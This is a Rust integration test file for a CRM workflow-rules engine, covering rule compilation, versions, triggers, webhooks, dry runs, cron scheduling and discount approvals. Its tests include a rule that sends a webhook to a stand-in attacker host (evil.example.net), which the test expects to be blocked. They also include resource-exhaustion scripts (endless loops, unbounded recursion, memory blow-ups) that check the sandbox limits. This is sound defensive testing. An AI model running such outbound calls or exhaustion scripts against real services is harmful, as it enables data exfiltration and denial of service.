@@ -1,0 +1,919 @@
+//! Workflow rules over the API: compile-on-save, versions, event triggers and every action,
+//! the run log, dry runs, hostile scripts and auto-disable, cron in a time zone, and the
+//! shipped two-step discount approval.
+
+use crate::helpers::{eventually, Tenant, TestApp};
+use serde_json::{json, Value};
+use std::sync::{Arc, Mutex};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+fn id(v: &Value) -> String {
+    v["id"].as_str().expect("id").to_owned()
+}
+
+async fn rule(app: &TestApp, t: &Tenant, body: Value) -> Value {
+    app.post("/api/v1/rules", &t.token, body).await.expect(201)
+}
+
+async fn runs(app: &TestApp, t: &Tenant, rule_id: &str) -> Vec<Value> {
+    app.get(&format!("/api/v1/rules/{rule_id}/runs?limit=200"), &t.token)
+        .await
+        .expect(200)["items"]
+        .as_array()
+        .expect("items")
+        .clone()
+}
+
+/// Waits until the rule has `n` runs and returns them, newest first.
+async fn wait_runs(app: &TestApp, t: &Tenant, rule_id: &str, n: usize) -> Vec<Value> {
+    eventually(&format!("{n} runs of rule {rule_id}"), || async {
+        let r = runs(app, t, rule_id).await;
+        (r.len() >= n).then_some(r)
+    })
+    .await
+}
+
+async fn customer(app: &TestApp, t: &Tenant, body: Value) -> Value {
+    app.post("/api/v1/customers", &t.token, body)
+        .await
+        .expect(201)
+}
+
+#[tokio::test]
+async fn rules_compile_on_save_and_every_edit_is_a_version() {
+    let app = TestApp::spawn().await;
+    let t = app.signup().await;
+    let base = json!({
+        "name": "A 级客户提醒",
+        "object": "customers",
+        "trigger": {"event": "customer.updated", "fields": ["level"]},
+        "condition": "record.level == \"A\"",
+        "script": "notify(\"owner\", \"客户升级为 A 级\");",
+    });
+    // Syntax error: 422 with part, line and column.
+    let mut bad = base.clone();
+    bad["script"] = json!("let x = 1;\nnotify(\"owner\", \"hi\"\n");
+    let p = app
+        .post("/api/v1/rules", &t.token, bad)
+        .await
+        .expect_problem(422, "compile.syntax");
+    assert_eq!(p["part"], "script");
+    assert!(p["line"].as_u64().expect("line") >= 2, "{p}");
+    assert!(p["column"].as_u64().is_some(), "{p}");
+    // eval and unknown functions are refused at save time.
+    for (script, code) in [
+        ("eval(\"1 + 1\")", "compile.eval_forbidden"),
+        ("delete_all_customers()", "compile.unknown_function"),
+    ] {
+        let mut bad = base.clone();
+        bad["script"] = json!(script);
+        app.post("/api/v1/rules", &t.token, bad)
+            .await
+            .expect_problem(422, code);
+    }
+    let mut bad = base.clone();
+    bad["condition"] = json!("record.level == ");
+    let p = app
+        .post("/api/v1/rules", &t.token, bad)
+        .await
+        .expect_problem(422, "compile.syntax");
+    assert_eq!(p["part"], "condition");
+    let mut bad = base.clone();
+    bad["trigger"] = json!({"event": "ticket.created"});
+    app.post("/api/v1/rules", &t.token, bad)
+        .await
+        .expect_problem(422, "validation.failed");
+    let mut bad = base.clone();
+    bad["run_as_role"] = json!("ghost");
+    app.post("/api/v1/rules", &t.token, bad)
+        .await
+        .expect_problem(422, "validation.failed");
+
+    let r = rule(&app, &t, base.clone()).await;
+    assert_eq!(r["version"], 1);
+    assert_eq!(r["enabled"], true);
+    assert_eq!(r["run_as_role"], "admin");
+    let rid = id(&r);
+    let mut edited = base.clone();
+    edited["condition"] = json!("record.level == \"A\" || record.level == \"B\"");
+    let r2 = app
+        .call(
+            reqwest::Method::PUT,
+            &format!("/api/v1/rules/{rid}"),
+            Some(&t.token),
+            Some(edited),
+        )
+        .await
+        .expect(200);
+    assert_eq!(r2["version"], 2);
+    let versions = app
+        .get(&format!("/api/v1/rules/{rid}/versions"), &t.token)
+        .await
+        .expect(200);
+    let items = versions["items"].as_array().expect("items");
+    assert_eq!(items.len(), 2);
+    assert_eq!(items[0]["version"], 2);
+    assert_eq!(items[1]["condition"], "record.level == \"A\"");
+    let list = app.get("/api/v1/rules", &t.token).await.expect(200);
+    assert_eq!(list["items"].as_array().expect("items").len(), 1);
+    // Only workflow managers see or write rules.
+    let (_, sales) = app.user_with_roles(&t, &["sales"]).await;
+    app.get("/api/v1/rules", &sales)
+        .await
+        .expect_problem(403, "auth.forbidden");
+    app.post("/api/v1/rules", &sales, base)
+        .await
+        .expect_problem(403, "auth.forbidden");
+    app.delete(&format!("/api/v1/rules/{rid}"), &t.token)
+        .await
+        .expect(204);
+    app.get(&format!("/api/v1/rules/{rid}"), &t.token)
+        .await
+        .expect_problem(404, "rule.not_found");
+}
+
+#[tokio::test]
+async fn an_update_rule_fires_once_per_event_on_its_fields_with_its_version() {
+    let app = TestApp::spawn().await;
+    let t = app.signup().await;
+    let r = rule(
+        &app,
+        &t,
+        json!({
+            "name": "升级 A 级后回访",
+            "object": "customers",
+            "trigger": {"event": "customer.updated", "fields": ["level"]},
+            "condition": "record.level == \"A\" && changes.level.before != \"A\"",
+            "script": r#"
+                create_task(#{title: "回访 " + record.name, due_in: "2d", notes: "升级为 A 级"});
+                notify("owner", "客户 " + record.name + " 升级为 A 级");
+                add_comment("系统：客户升级为 A 级", false);
+                set_field("source", "规则");
+            "#,
+        }),
+    )
+    .await;
+    let rid = id(&r);
+    let c = customer(&app, &t, json!({"name": "艾克米贸易", "level": "B"})).await;
+    let cid = id(&c);
+    // A change of another field does not trigger the rule.
+    app.patch(
+        &format!("/api/v1/customers/{cid}"),
+        &t.token,
+        json!({"industry": "软件"}),
+    )
+    .await
+    .expect(200);
+    app.patch(
+        &format!("/api/v1/customers/{cid}"),
+        &t.token,
+        json!({"level": "A"}),
+    )
+    .await
+    .expect(200);
+    let done = wait_runs(&app, &t, &rid, 1).await;
+    let run = &done[0];
+    assert_eq!(run["outcome"], "succeeded", "{run}");
+    assert_eq!(run["version"], 1);
+    assert_eq!(run["trigger"]["event"], "customer.updated");
+    assert_eq!(run["record_id"], cid.as_str());
+    let effects = run["effects"].as_array().expect("effects");
+    assert_eq!(effects.len(), 4);
+    let task_id = effects[0]["result"]["task_id"].as_str().expect("task id");
+    // The task is an ordinary task: the owner's, about the customer, due in two days.
+    let task = app
+        .get(&format!("/api/v1/tasks/{task_id}"), &t.token)
+        .await
+        .expect(200);
+    assert_eq!(task["title"], "回访 艾克米贸易");
+    assert_eq!(task["customer_id"], cid.as_str());
+    assert_eq!(task["assignee_id"], t.admin_id.as_str());
+    let mine = app
+        .get("/api/v1/tasks?mine=true&due=upcoming", &t.token)
+        .await
+        .expect(200);
+    assert!(mine["items"]
+        .as_array()
+        .expect("items")
+        .iter()
+        .any(|x| x["id"] == task_id));
+    let notes = app.get("/api/v1/notifications", &t.token).await.expect(200);
+    assert!(notes["items"]
+        .as_array()
+        .expect("items")
+        .iter()
+        .any(|n| n["title"] == "客户 艾克米贸易 升级为 A 级"));
+    let c = app
+        .get(&format!("/api/v1/customers/{cid}"), &t.token)
+        .await
+        .expect(200);
+    assert_eq!(c["source"], "规则");
+    // The rule's own write is in the history under the rule's principal, and does not
+    // trigger the rule again.
+    let history = app
+        .get(&format!("/api/v1/customers/{cid}/history"), &t.token)
+        .await
+        .expect(200);
+    let by_rule = history["items"]
+        .as_array()
+        .expect("items")
+        .iter()
+        .find(|h| h["changes"]["source"].is_object())
+        .expect("the rule's change");
+    assert_eq!(by_rule["actor_kind"], "rule");
+    assert_eq!(by_rule["actor_id"], rid.as_str());
+    // A second edit that leaves the level at A does not match; a new version runs for new
+    // events only.
+    app.patch(
+        &format!("/api/v1/customers/{cid}"),
+        &t.token,
+        json!({"level": "B"}),
+    )
+    .await
+    .expect(200);
+    let done = wait_runs(&app, &t, &rid, 2).await;
+    assert_eq!(done[0]["outcome"], "not_matched");
+    assert_eq!(done.len(), 2);
+    let schema = app.schema_of(&t).await;
+    let tasks: i64 = sqlx::query_scalar(&format!(
+        "SELECT count(*) FROM \"{schema}\".tasks WHERE customer_id = $1::uuid"
+    ))
+    .bind(&cid)
+    .fetch_one(&app.pool)
+    .await
+    .expect("count");
+    assert_eq!(tasks, 1);
+}
+
+/// A one-shot HTTP receiver: records request bodies and headers, answers 200.
+async fn webhook_sink() -> (String, Arc<Mutex<Vec<(String, Value)>>>) {
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
+        .await
+        .expect("bind");
+    let addr = listener.local_addr().expect("addr");
+    let got: Arc<Mutex<Vec<(String, Value)>>> = Arc::default();
+    let sink = got.clone();
+    tokio::spawn(async move {
+        while let Ok((mut sock, _)) = listener.accept().await {
+            let sink = sink.clone();
+            tokio::spawn(async move {
+                let mut buf = Vec::new();
+                let mut chunk = [0u8; 4096];
+                loop {
+                    let Ok(n) = sock.read(&mut chunk).await else {
+                        return;
+                    };
+                    if n == 0 {
+                        return;
+                    }
+                    buf.extend_from_slice(&chunk[..n]);
+                    let text = String::from_utf8_lossy(&buf).to_string();
+                    if let Some(end) = text.find("\r\n\r\n") {
+                        let head = text[..end].to_ascii_lowercase();
+                        let len = head
+                            .lines()
+                            .find_map(|l| l.strip_prefix("content-length:"))
+                            .and_then(|v| v.trim().parse::<usize>().ok())
+                            .unwrap_or(0);
+                        if buf.len() >= end + 4 + len {
+                            let body: Value = serde_json::from_slice(&buf[end + 4..end + 4 + len])
+                                .unwrap_or(Value::Null);
+                            let key = head
+                                .lines()
+                                .find_map(|l| l.strip_prefix("idempotency-key:"))
+                                .unwrap_or_default()
+                                .trim()
+                                .to_owned();
+                            sink.lock().expect("lock").push((key, body));
+                            let _ = sock
+                                .write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\nconnection: close\r\n\r\n")
+                                .await;
+                            return;
+                        }
+                    }
+                }
+            });
+        }
+    });
+    (format!("http://127.0.0.1:{}", addr.port()), got)
+}
+
+#[tokio::test]
+async fn ticket_rules_assign_comment_mail_schedule_and_call_allowed_webhooks() {
+    let app = TestApp::spawn().await;
+    let t = app.signup().await;
+    let team = app
+        .post("/api/v1/teams", &t.token, json!({"name": "售后组"}))
+        .await
+        .expect(201);
+    let team_id = id(&team);
+    let mut agents = Vec::new();
+    for _ in 0..2 {
+        let (agent, _) = app.user_with_roles(&t, &["service"]).await;
+        app.post(
+            &format!("/api/v1/teams/{team_id}/members"),
+            &t.token,
+            json!({"user_id": agent}),
+        )
+        .await
+        .expect(204);
+        agents.push(agent);
+    }
+    let (url, got) = webhook_sink().await;
+    app.call(
+        reqwest::Method::PUT,
+        "/api/v1/settings/workflows",
+        Some(&t.token),
+        Some(json!({"webhook_hosts": ["127.0.0.1"], "failure_limit": 5})),
+    )
+    .await
+    .expect(200);
+    let r = rule(
+        &app,
+        &t,
+        json!({
+            "name": "工单轮询分派",
+            "object": "tickets",
+            "trigger": {"event": "ticket.created"},
+            "condition": "record.priority != \"low\"",
+            "script": format!(r#"
+                assign_to("round_robin:售后组");
+                add_comment("您好，我们已收到您的工单 " + record.number + "。", true);
+                send_email("新工单 {{{{number}}}}\n\n主题：{{{{subject}}}}", "manager");
+                schedule("1s", #{{action: "notify", user: "{admin}", text: "工单 " + record.number + " 一秒后提醒"}});
+                webhook("{url}/hook", #{{number: record.number, priority: record.priority}});
+            "#, admin = t.admin_id),
+        }),
+    )
+    .await;
+    let rid = id(&r);
+    // The admin is the agents' manager, so "manager" of the assignee gets the mail.
+    for a in &agents {
+        app.patch(
+            &format!("/api/v1/users/{a}"),
+            &t.token,
+            json!({"manager_id": t.admin_id}),
+        )
+        .await
+        .expect(200);
+    }
+    let mut assignees = Vec::new();
+    for i in 0..4 {
+        let tk = app
+            .post(
+                "/api/v1/tickets",
+                &t.token,
+                json!({"subject": format!("打印机故障 {i}"), "priority": "high"}),
+            )
+            .await
+            .expect(201);
+        let tid = id(&tk);
+        let done = eventually("the rule's run", || async {
+            runs(&app, &t, &rid)
+                .await
+                .into_iter()
+                .find(|r| r["record_id"] == tid.as_str())
+        })
+        .await;
+        assert_eq!(done["outcome"], "succeeded", "{done}");
+        let tk = app
+            .get(&format!("/api/v1/tickets/{tid}"), &t.token)
+            .await
+            .expect(200);
+        assignees.push(tk["assignee_id"].as_str().expect("assigned").to_owned());
+        let comments = app
+            .get(&format!("/api/v1/tickets/{tid}/comments"), &t.token)
+            .await
+            .expect(200);
+        let first = &comments["items"][0];
+        assert_eq!(first["public"], true);
+        assert!(first["body"]
+            .as_str()
+            .expect("body")
+            .contains(tk["number"].as_str().expect("number")));
+    }
+    // Round-robin: two each, alternating.
+    assert_ne!(assignees[0], assignees[1]);
+    assert_eq!(assignees[0], assignees[2]);
+    assert_eq!(assignees[1], assignees[3]);
+    // Low priority does not match.
+    let low = app
+        .post(
+            "/api/v1/tickets",
+            &t.token,
+            json!({"subject": "咨询", "priority": "low"}),
+        )
+        .await
+        .expect(201);
+    let low_id = id(&low);
+    let low_run = eventually("the low run", || async {
+        runs(&app, &t, &rid)
+            .await
+            .into_iter()
+            .find(|r| r["record_id"] == low_id.as_str())
+    })
+    .await;
+    assert_eq!(low_run["outcome"], "not_matched");
+    // Webhooks arrive once each, with an idempotency key.
+    let hooks = eventually("four webhooks", || async {
+        let g = got.lock().expect("lock").clone();
+        (g.len() >= 4).then_some(g)
+    })
+    .await;
+    assert_eq!(hooks.len(), 4);
+    assert!(hooks.iter().all(|(key, body)| !key.is_empty()
+        && body["payload"]["priority"] == "high"
+        && body["rule"]["id"] == rid.as_str()));
+    // The scheduled notification arrives later, once per ticket.
+    let notes = eventually("four scheduled notifications", || async {
+        let n = app
+            .get("/api/v1/notifications?limit=100", &t.token)
+            .await
+            .expect(200);
+        let hits = n["items"]
+            .as_array()
+            .expect("items")
+            .iter()
+            .filter(|x| {
+                x["title"]
+                    .as_str()
+                    .unwrap_or_default()
+                    .ends_with("一秒后提醒")
+            })
+            .count();
+        (hits >= 4).then_some(hits)
+    })
+    .await;
+    assert_eq!(notes, 4);
+    // Mail to the assignee's manager (the admin), rendered from the inline template.
+    let mails = eventually("four mails", || async {
+        let hits: Vec<Value> = crate::mail::eml_files(&app.config.data_dir, &t.slug)
+            .into_iter()
+            .filter(|m| {
+                m["to"]
+                    .as_str()
+                    .unwrap_or_default()
+                    .contains(&t.admin_email)
+            })
+            .filter(|m| {
+                m["subject"]
+                    .as_str()
+                    .unwrap_or_default()
+                    .starts_with("新工单 T-")
+            })
+            .collect();
+        (hits.len() >= 4).then_some(hits)
+    })
+    .await;
+    assert_eq!(mails.len(), 4);
+    assert!(mails.iter().all(|m| m["body"]
+        .as_str()
+        .unwrap_or_default()
+        .contains("主题：打印机故障")));
+
+    // A host that is not allowed fails the run (and nothing of it happens).
+    let blocked = rule(
+        &app,
+        &t,
+        json!({
+            "name": "外发",
+            "object": "tickets",
+            "trigger": {"manual": true},
+            "script": "add_comment(\"不会出现\", false); webhook(\"https://evil.example.net/x\", #{a: 1});",
+        }),
+    )
+    .await;
+    let tid = id(&low);
+    let run = app
+        .post(
+            &format!("/api/v1/rules/{}/run", id(&blocked)),
+            &t.token,
+            json!({"record_id": tid}),
+        )
+        .await
+        .expect(200);
+    assert_eq!(run["outcome"], "failed");
+    assert_eq!(run["error"]["code"], "rule.webhook_host_not_allowed");
+    let comments = app
+        .get(&format!("/api/v1/tickets/{tid}/comments"), &t.token)
+        .await
+        .expect(200);
+    assert!(!comments["items"]
+        .as_array()
+        .expect("items")
+        .iter()
+        .any(|c| c["body"] == "不会出现"));
+}
+
+#[tokio::test]
+async fn dry_run_shows_effects_and_errors_and_writes_nothing() {
+    let app = TestApp::spawn().await;
+    let t = app.signup().await;
+    let c = customer(&app, &t, json!({"name": "王芳", "level": "A"})).await;
+    let body = json!({
+        "rule": {
+            "name": "试运行",
+            "object": "customers",
+            "trigger": {"event": "customer.updated"},
+            "condition": "record.level == \"A\"",
+            "script": "create_task(#{title: \"回访 \" + record.name, due_in: \"7d\"}); set_field(\"level\", \"B\");",
+        },
+        "record_id": id(&c),
+    });
+    let out = app
+        .post("/api/v1/rules/dry-run", &t.token, body)
+        .await
+        .expect(200);
+    assert_eq!(out["matched"], true);
+    assert_eq!(
+        out["effects"],
+        json!([
+            {"action": "create_task", "title": "回访 王芳", "due_in": "7d", "due_in_seconds": 604800},
+            {"action": "set_field", "key": "level", "value": "B"}
+        ])
+    );
+    // A record given inline, with changes; a condition that does not hold.
+    let out = app
+        .post(
+            "/api/v1/rules/dry-run",
+            &t.token,
+            json!({
+                "rule": {"name": "x", "object": "customers", "trigger": {"manual": true},
+                         "condition": "changes.level.after == \"A\"", "script": "notify(\"owner\", \"x\")"},
+                "record": {"name": "李雷", "level": "C"},
+                "changes": {"level": {"before": "A", "after": "C"}},
+            }),
+        )
+        .await
+        .expect(200);
+    assert_eq!(out["matched"], false);
+    assert_eq!(out["effects"], json!([]));
+    // Limits are reported as a real run would.
+    let out = app
+        .post(
+            "/api/v1/rules/dry-run",
+            &t.token,
+            json!({
+                "rule": {"name": "x", "object": "customers", "trigger": {"manual": true},
+                         "script": "let n = 0; loop { n += 1; }"},
+                "record": {},
+            }),
+        )
+        .await
+        .expect(200);
+    let code = out["error"]["code"].as_str().expect("error code");
+    assert!(code == "limit.operations" || code == "limit.time", "{out}");
+    // A saved rule by id.
+    let saved = rule(
+        &app,
+        &t,
+        json!({"name": "存", "object": "customers", "trigger": {"manual": true},
+               "script": "notify(\"owner\", record.name)"}),
+    )
+    .await;
+    let out = app
+        .post(
+            "/api/v1/rules/dry-run",
+            &t.token,
+            json!({"rule_id": id(&saved), "record": {"name": "赵六"}}),
+        )
+        .await
+        .expect(200);
+    assert_eq!(
+        out["effects"],
+        json!([{"action": "notify", "user": "owner", "text": "赵六"}])
+    );
+    // Nothing was written: no task, the level unchanged, no run logged.
+    let schema = app.schema_of(&t).await;
+    let tasks: i64 = sqlx::query_scalar(&format!("SELECT count(*) FROM \"{schema}\".tasks"))
+        .fetch_one(&app.pool)
+        .await
+        .expect("count");
+    assert_eq!(tasks, 0);
+    let c = app
+        .get(&format!("/api/v1/customers/{}", id(&c)), &t.token)
+        .await
+        .expect(200);
+    assert_eq!(c["level"], "A");
+    assert!(runs(&app, &t, &id(&saved)).await.is_empty());
+    app.post("/api/v1/rules/dry-run", &t.token, json!({"record": {}}))
+        .await
+        .expect_problem(422, "validation.failed");
+}
+
+#[tokio::test]
+async fn hostile_scripts_fail_their_runs_and_repeated_failures_turn_the_rule_off() {
+    let app = TestApp::spawn().await;
+    let t = app.signup().await;
+    let c = customer(&app, &t, json!({"name": "测试客户"})).await;
+    let cid = id(&c);
+    let hostile = [
+        (
+            "let n = 0; loop { n += 1; }",
+            &["limit.operations", "limit.time"][..],
+        ),
+        ("fn f(n) { f(n + 1) } f(0);", &["limit.call_depth"][..]),
+        (
+            "let s = \"ab\"; loop { s += s; }",
+            &["limit.string_size"][..],
+        ),
+        ("let a = []; loop { a.push(1); }", &["limit.array_size"][..]),
+    ];
+    for (script, codes) in hostile {
+        let r = rule(
+            &app,
+            &t,
+            json!({"name": "恶意", "object": "customers", "trigger": {"manual": true}, "script": script}),
+        )
+        .await;
+        let run = app
+            .post(
+                &format!("/api/v1/rules/{}/run", id(&r)),
+                &t.token,
+                json!({"record_id": cid}),
+            )
+            .await
+            .expect(200);
+        assert_eq!(run["outcome"], "failed", "{script}");
+        let code = run["error"]["code"].as_str().expect("code");
+        assert!(codes.contains(&code), "{script}: {code}");
+        // The server keeps serving.
+        app.get(&format!("/api/v1/customers/{cid}"), &t.token)
+            .await
+            .expect(200);
+    }
+    // Three failures in a row (the company's limit) turn a rule off and tell the admins.
+    app.call(
+        reqwest::Method::PUT,
+        "/api/v1/settings/workflows",
+        Some(&t.token),
+        Some(json!({"webhook_hosts": [], "failure_limit": 3})),
+    )
+    .await
+    .expect(200);
+    let r = rule(
+        &app,
+        &t,
+        json!({"name": "总失败", "object": "customers", "trigger": {"manual": true},
+               "script": "set_field(\"no_such_field\", 1);"}),
+    )
+    .await;
+    let rid = id(&r);
+    for i in 0..3 {
+        let run = app
+            .post(
+                &format!("/api/v1/rules/{rid}/run"),
+                &t.token,
+                json!({"record_id": cid}),
+            )
+            .await
+            .expect(200);
+        assert_eq!(run["outcome"], "failed", "run {i}");
+    }
+    let r = app
+        .get(&format!("/api/v1/rules/{rid}"), &t.token)
+        .await
+        .expect(200);
+    assert_eq!(r["enabled"], false);
+    assert_eq!(r["consecutive_failures"], 3);
+    assert!(r["disabled_reason"]
+        .as_str()
+        .expect("reason")
+        .contains("3 failed runs"));
+    let notes = app.get("/api/v1/notifications", &t.token).await.expect(200);
+    assert!(notes["items"]
+        .as_array()
+        .expect("items")
+        .iter()
+        .any(|n| n["kind"] == "rule.disabled"));
+    app.post(
+        &format!("/api/v1/rules/{rid}/run"),
+        &t.token,
+        json!({"record_id": cid}),
+    )
+    .await
+    .expect_problem(409, "rule.disabled");
+}
+
+#[tokio::test]
+async fn a_schedule_rule_fires_in_its_time_zone_for_each_matching_record() {
+    let app = TestApp::spawn().await;
+    let t = app.signup().await;
+    let quiet = customer(&app, &t, json!({"name": "沉默客户", "level": "A"})).await;
+    customer(&app, &t, json!({"name": "普通客户", "level": "C"})).await;
+    let r = rule(
+        &app,
+        &t,
+        json!({
+            "name": "工作日早九点跟进",
+            "object": "customers",
+            "trigger": {"schedule": "0 9 * * 1-5", "timezone": "Asia/Shanghai"},
+            "condition": "record.level == \"A\"",
+            "script": "create_task(#{title: \"跟进 \" + record.name, due_in: \"4h\"});",
+        }),
+    )
+    .await;
+    let rid = id(&r);
+    let schema = app.schema_of(&t).await;
+    let (job_id, run_at): (i64, chrono::DateTime<chrono::Utc>) = sqlx::query_as(&format!(
+        "SELECT id, run_at FROM \"{schema}\".jobs WHERE kind = 'rule.cron' AND status = 'pending'"
+    ))
+    .fetch_one(&app.pool)
+    .await
+    .expect("the first firing is queued");
+    // 09:00 in Shanghai is 01:00 UTC, on a weekday.
+    use chrono::{Datelike, Timelike};
+    assert_eq!((run_at.hour(), run_at.minute()), (1, 0));
+    assert!(run_at.weekday().number_from_monday() <= 5);
+    // Make it due now.
+    sqlx::query(&format!(
+        "UPDATE \"{schema}\".jobs SET run_at = now() WHERE id = $1"
+    ))
+    .bind(job_id)
+    .execute(&app.pool)
+    .await
+    .expect("due");
+    // …and tell the worker the tenant has a job due (its hint said 09:00).
+    sqlx::query("UPDATE platform.job_hints SET next_run_at = now() WHERE tenant_id = $1::uuid")
+        .bind(&t.id)
+        .execute(&app.pool)
+        .await
+        .expect("hint");
+    let done = wait_runs(&app, &t, &rid, 2).await;
+    assert_eq!(done.len(), 2);
+    let matched: Vec<&Value> = done
+        .iter()
+        .filter(|r| r["outcome"] == "succeeded")
+        .collect();
+    assert_eq!(matched.len(), 1);
+    assert_eq!(matched[0]["record_id"], id(&quiet).as_str());
+    assert_eq!(matched[0]["trigger"]["kind"], "schedule");
+    // The next firing is queued, again at 01:00 UTC and later than the first.
+    let next: chrono::DateTime<chrono::Utc> = eventually("the next firing", || async {
+        sqlx::query_scalar(&format!(
+            "SELECT run_at FROM \"{schema}\".jobs WHERE kind = 'rule.cron' AND status = 'pending'"
+        ))
+        .fetch_optional(&app.pool)
+        .await
+        .expect("query")
+    })
+    .await;
+    assert!(next > run_at);
+    assert_eq!((next.hour(), next.minute()), (1, 0));
+}
+
+#[tokio::test]
+async fn the_two_step_discount_approval_locks_the_opportunity_until_decided() {
+    let app = TestApp::spawn().await;
+    let t = app.signup().await;
+    app.post(
+        "/api/v1/roles",
+        &t.token,
+        json!({"name": "sales_manager", "description": "销售经理",
+               "permissions": ["customers:read", "customers:update"]}),
+    )
+    .await
+    .expect(201);
+    let (_manager, manager_token) = app.user_with_roles(&t, &["sales_manager"]).await;
+    let (_finance, finance_token) = app.user_with_roles(&t, &["finance"]).await;
+    let r = rule(
+        &app,
+        &t,
+        json!({
+            "name": "折扣超过 20% 需审批",
+            "object": "opportunities",
+            "trigger": {"event": "opportunity.updated", "fields": ["discount_pct"]},
+            "condition": "record.discount_pct != () && record.discount_pct > 20.0",
+            "script": r#"
+                request_approval(#{
+                    title: "折扣审批：" + record.name,
+                    steps: [
+                        #{approvers: ["role:sales_manager"], mode: "any"},
+                        #{approvers: ["role:finance"], mode: "any"}
+                    ],
+                    on_approve: #{action: "notify", user: "owner", text: "折扣已批准：" + record.name},
+                    on_reject: #{action: "set_field", key: "discount_pct", value: 20}
+                });
+            "#,
+        }),
+    )
+    .await;
+    let follow = rule(
+        &app,
+        &t,
+        json!({
+            "name": "审批结束后建任务",
+            "object": "opportunities",
+            "trigger": {"approval": "decided"},
+            "script": "create_task(#{title: \"审批结果跟进 \" + record.name, due_in: \"1d\"});",
+        }),
+    )
+    .await;
+    let c = customer(&app, &t, json!({"name": "大众 4S 店"})).await;
+    let opp = app
+        .post(
+            "/api/v1/opportunities",
+            &t.token,
+            json!({"name": "十台车", "customer_id": id(&c), "amount": 1000000}),
+        )
+        .await
+        .expect(201);
+    let oid = id(&opp);
+    let path = format!("/api/v1/opportunities/{oid}");
+    app.patch(&path, &t.token, json!({"discount_pct": 25}))
+        .await
+        .expect(200);
+    let run = wait_runs(&app, &t, &id(&r), 1).await;
+    assert_eq!(run[0]["outcome"], "succeeded", "{}", run[0]);
+
+    let approval_id = run[0]["effects"][0]["result"]["approval_id"]
+        .as_str()
+        .expect("approval id")
+        .to_owned();
+    // Locked while pending.
+    let p = app
+        .patch(&path, &t.token, json!({"amount": 900000}))
+        .await
+        .expect_problem(409, "record.pending_approval");
+    assert_eq!(p["approval_id"], approval_id.as_str());
+    // Finance cannot decide the first step; the sales manager can.
+    app.post(
+        &format!("/api/v1/approvals/{approval_id}/approve"),
+        &finance_token,
+        json!({"comment": "越级"}),
+    )
+    .await
+    .expect_problem(403, "approval.not_an_approver");
+    let a = app
+        .post(
+            &format!("/api/v1/approvals/{approval_id}/approve"),
+            &manager_token,
+            json!({"comment": "同意"}),
+        )
+        .await
+        .expect(200);
+    assert_eq!(a["status"], "pending");
+    assert_eq!(a["current_step"], 1);
+    let a = app
+        .post(
+            &format!("/api/v1/approvals/{approval_id}/approve"),
+            &finance_token,
+            json!({"comment": "财务同意"}),
+        )
+        .await
+        .expect(200);
+    assert_eq!(a["status"], "approved");
+    // Unlocked; the on_approve notification reaches the owner; the decision triggered the
+    // follow-up rule.
+    app.patch(&path, &t.token, json!({"amount": 900000}))
+        .await
+        .expect(200);
+    eventually("the approval notification", || async {
+        let n = app.get("/api/v1/notifications", &t.token).await.expect(200);
+        n["items"]
+            .as_array()
+            .expect("items")
+            .iter()
+            .any(|x| x["title"] == "折扣已批准：十台车")
+            .then_some(())
+    })
+    .await;
+    let follow_runs = wait_runs(&app, &t, &id(&follow), 1).await;
+    assert_eq!(follow_runs[0]["outcome"], "succeeded");
+    assert_eq!(
+        follow_runs[0]["trigger"]["event"],
+        "opportunity.approval_decided"
+    );
+
+    // A rejection runs on_reject: the discount goes back to 20.
+    app.patch(&path, &t.token, json!({"discount_pct": 30}))
+        .await
+        .expect(200);
+    // (The rule's runs now also hold the on_approve action's run.)
+    let second = eventually("the second approval", || async {
+        runs(&app, &t, &id(&r))
+            .await
+            .into_iter()
+            .filter(|x| x["trigger"]["kind"] == "event")
+            .filter_map(|x| {
+                x["effects"][0]["result"]["approval_id"]
+                    .as_str()
+                    .map(str::to_owned)
+            })
+            .find(|a| *a != approval_id)
+    })
+    .await;
+    app.post(
+        &format!("/api/v1/approvals/{second}/reject"),
+        &manager_token,
+        json!({"comment": "折扣太高"}),
+    )
+    .await
+    .expect(200);
+    eventually("the discount reset", || async {
+        let o = app.get(&path, &t.token).await.expect(200);
+        let d = o["discount_pct"].to_string().trim_matches('"').to_owned();
+        (d.parse::<f64>().ok() == Some(20.0)).then_some(())
+    })
+    .await;
+}
